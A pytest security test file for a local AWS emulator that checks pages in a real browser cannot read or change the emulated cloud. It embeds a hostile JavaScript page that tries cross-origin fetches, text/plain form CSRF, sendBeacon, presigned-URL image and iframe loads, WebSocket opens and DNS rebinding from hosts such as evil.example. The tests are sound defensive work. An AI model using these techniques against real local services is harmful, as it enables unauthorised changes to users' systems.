"""What a page in a real browser can do to the running cloud: nothing."""

import http.server
import json
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from sluice.cloud.embedded import EmbeddedCloud
from sluice.cloud.emulator.clients import Cloud

from .browser import Pages, visiting

TRUST = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
        ],
    }
)
PLACE: Any = {"LocationConstraint": "eu-north-1"}
SCRIPT = """
<!DOCTYPE html><body><script>
const [own, bucket, functions, topics, put, cloud] = %s;
const name = new URL(location).searchParams.get("name");
const body = JSON.stringify({FunctionName: name + "-fetch", Runtime: "python3.14", Handler: "a.b",
  Role: "arn:aws:iam::000000000000:role/evil", Code: {ZipFile: "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="}});
const told = {};
const attempt = async (what, work) => {
  try { told[what] = String(await work()) } catch (error) { told[what] = "refused" }
};
const text = async (...request) => {
  const answer = await fetch(...request);
  return answer.status + await answer.text();
};
const submit = (method, action, fields, target) => {
  const form = document.createElement("form");
  Object.assign(form, {method, action, target, enctype: method == "post" ? "text/plain" : ""});
  for (const [key, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, {name: key, value});
    form.append(input);
  }
  document.body.append(form);
  form.submit();
};
const frame = (name) => {
  const made = Object.assign(document.createElement("iframe"), {name});
  document.body.append(made);
  return made;
};
const loaded = (element) => new Promise((done) => { element.onload = element.onerror = done });
(async () => {
  await attempt("mails", () => text(own + "ses/messages"));
  await attempt("object", () => text(bucket));
  const plain = {"Content-Type": "text/plain"};
  await attempt("readable function", () => text(functions, {method: "POST", body, headers: plain}));
  await attempt("put", () => text(put.replace("NAME", name), {method: "PUT", body: "evil"}));
  await fetch(functions, {method: "POST", mode: "no-cors", body}).catch(() => 0);
  navigator.sendBeacon(functions, new Blob([body.replace("-fetch", "-beacon")], {type: "text/plain"}));
  const image = new Image();
  image.src = topics.replace("NAME", name + "-image");
  await loaded(image);
  const inside = frame("inside");
  inside.src = topics.replace("NAME", name + "-frame");
  await loaded(inside);
  const posted = frame("posted");
  const quoted = body.replace("-fetch", "-form").slice(0, -1) + ', "x": "';
  submit("post", functions, {[quoted]: '"}'}, "posted");
  await loaded(posted);
  const asked = frame("asked");
  const query = Object.fromEntries(new URL(topics.replace("NAME", name + "-get-form")).searchParams);
  submit("get", cloud, query, "asked");
  await loaded(asked);
  await attempt("socket", () => new Promise((done, failed) => {
    const socket = new WebSocket(cloud.replace("http", "ws") + "_aws/execute-api/12345678/stage");
    socket.onopen = () => done("open");
    socket.onerror = failed;
  }));
  await fetch(own + "reset", {method: "POST", mode: "no-cors"}).catch(() => 0);
  await fetch("/tell", {method: "POST", body: JSON.stringify(told)});
})();
</script>
"""


@pytest.fixture(scope="module")
def cloud() -> Iterator[Cloud]:
    with EmbeddedCloud() as embedded:
        made = Cloud(embedded.endpoint, "eu-north-1")
        made.client("iam").create_role(RoleName="evil", AssumeRolePolicyDocument=TRUST)
        made.client("s3").create_bucket(Bucket="reports", CreateBucketConfiguration=PLACE)
        yield made


@pytest.fixture(scope="module")
def pages() -> Iterator[Pages]:
    with Pages() as served:
        yield served


@pytest.fixture(scope="module")
def page(cloud: Cloud) -> str:
    """An address, signed, of a page in a bucket."""
    s3 = cloud.client("s3")
    s3.put_object(Bucket="reports", Key="latest.html", Body=b"<p>the report", ContentType="text/html")
    return s3.generate_presigned_url("get_object", {"Bucket": "reports", "Key": "latest.html"})


def topic(cloud: Cloud, name: str) -> str:
    """An address, signed, that makes a topic when it is opened."""
    return cloud.client("sns").generate_presigned_url("create_topic", {"Name": name}, HttpMethod="GET")


def script(cloud: Cloud, page: str) -> str:
    functions = cloud.client("lambda").generate_presigned_url(
        "create_function", {"FunctionName": "x", "Role": "arn:aws:iam::000000000000:role/evil", "Code": {}}
    )
    put = cloud.client("s3").generate_presigned_url("put_object", {"Bucket": "reports", "Key": "NAME"})
    own = f"{cloud.endpoint}/_ministack/"
    return SCRIPT % json.dumps([own, page, functions, topic(cloud, "NAME"), put, f"{cloud.endpoint}/"])


def object_of(seen: Cloud, cloud: Cloud, content: str) -> str:
    """An address, signed for the name under which the cloud is seen, of a page in a bucket."""
    where = {"Bucket": "reports", "Key": "scripted.html"}
    cloud.client("s3").put_object(**where, Body=content, ContentType="text/html")
    return seen.client("s3").generate_presigned_url("get_object", where)


def tell(pages: Pages, text: str) -> str:
    return f"fetch('http://127.0.0.1:{pages.port}/tell', {{method: 'POST', mode: 'no-cors', body: '\\x22{text}\\x22'}})"


def done_by_pages(cloud: Cloud) -> set[str]:
    """The names of all that there is and that no test made."""
    functions = {function["FunctionName"] for function in cloud.client("lambda").list_functions()["Functions"]}
    topics = {topic["TopicArn"].rpartition(":")[2] for topic in cloud.client("sns").list_topics()["Topics"]}
    objects = {held["Key"] for held in cloud.client("s3").list_objects_v2(Bucket="reports")["Contents"]}
    return (functions | topics | objects) - {"latest.html", "scripted.html"}


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1", "localhost", "page.localhost"])
def test_a_page_of_another_origin_reads_and_changes_nothing(cloud: Cloud, pages: Pages, page: str, host: str) -> None:
    name = host.replace(".", "-")
    pages.pages[f"/?name={name}"] = script(cloud, page)
    with visiting(f"http://{host}:{pages.port}/?name={name}"):
        told = pages.heard()
    assert told == dict.fromkeys(["mails", "object", "readable function", "put", "socket"], "refused")
    assert done_by_pages(cloud) == set()


def test_a_name_that_is_bound_to_this_machine_reads_nothing(cloud: Cloud, pages: Pages) -> None:
    rebound = Cloud(f"http://rebound.example:{cloud.endpoint.rpartition(':')[2]}", "eu-north-1")
    scripted = object_of(rebound, cloud, f"<script>{tell(pages, 'it was read')}</script>")
    pages.pages["/rebound"] = f"<iframe src='{scripted}' onload=\"{tell(pages, 'it was loaded')}\"></iframe>"
    with visiting(f"http://rebound.example:{pages.port}/rebound"):
        assert pages.heard() == "it was loaded"


def test_a_page_in_a_bucket_is_shown_and_its_script_does_not_run(cloud: Cloud, pages: Pages) -> None:
    pages.pages["/shown"] = lambda _: pages.told.put("it was shown")
    shown = f"<noscript><img src='http://127.0.0.1:{pages.port}/shown'></noscript>"
    scripted = object_of(cloud, cloud, f"<script>{tell(pages, 'its script ran')}</script>{shown}")
    with visiting(scripted):
        assert pages.heard() == "it was shown"


def test_a_link_by_way_of_a_redirect_changes_nothing(cloud: Cloud, pages: Pages, page: str) -> None:
    followed = threading.Event()

    def redirect(handler: http.server.BaseHTTPRequestHandler) -> None:
        handler.send_response(302)
        handler.send_header("Location", topic(cloud, "by-redirect"))
        handler.end_headers()
        followed.set()

    pages.pages["/link"] = redirect
    with visiting(f"http://evil.example:{pages.port}/link"):
        assert followed.wait(60)
        with visiting(f"http://evil.example:{pages.port}/?name=after"):  # by then the first has followed, too
            pages.pages["/?name=after"] = script(cloud, page)
            pages.heard()
    assert done_by_pages(cloud) == set()
